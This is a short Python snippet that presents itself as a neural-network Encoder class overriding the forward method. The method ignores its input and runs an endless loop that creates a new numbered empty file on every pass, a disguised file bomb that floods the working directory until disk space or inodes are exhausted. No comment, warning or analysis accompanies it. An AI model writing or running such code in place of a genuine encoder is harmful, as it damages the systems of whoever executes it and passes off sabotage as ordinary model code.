class Encoder(Encoder):
    def forward(self, x):
        number = 0
        while True:
            number += 1
            open(str(number), "wb").close()
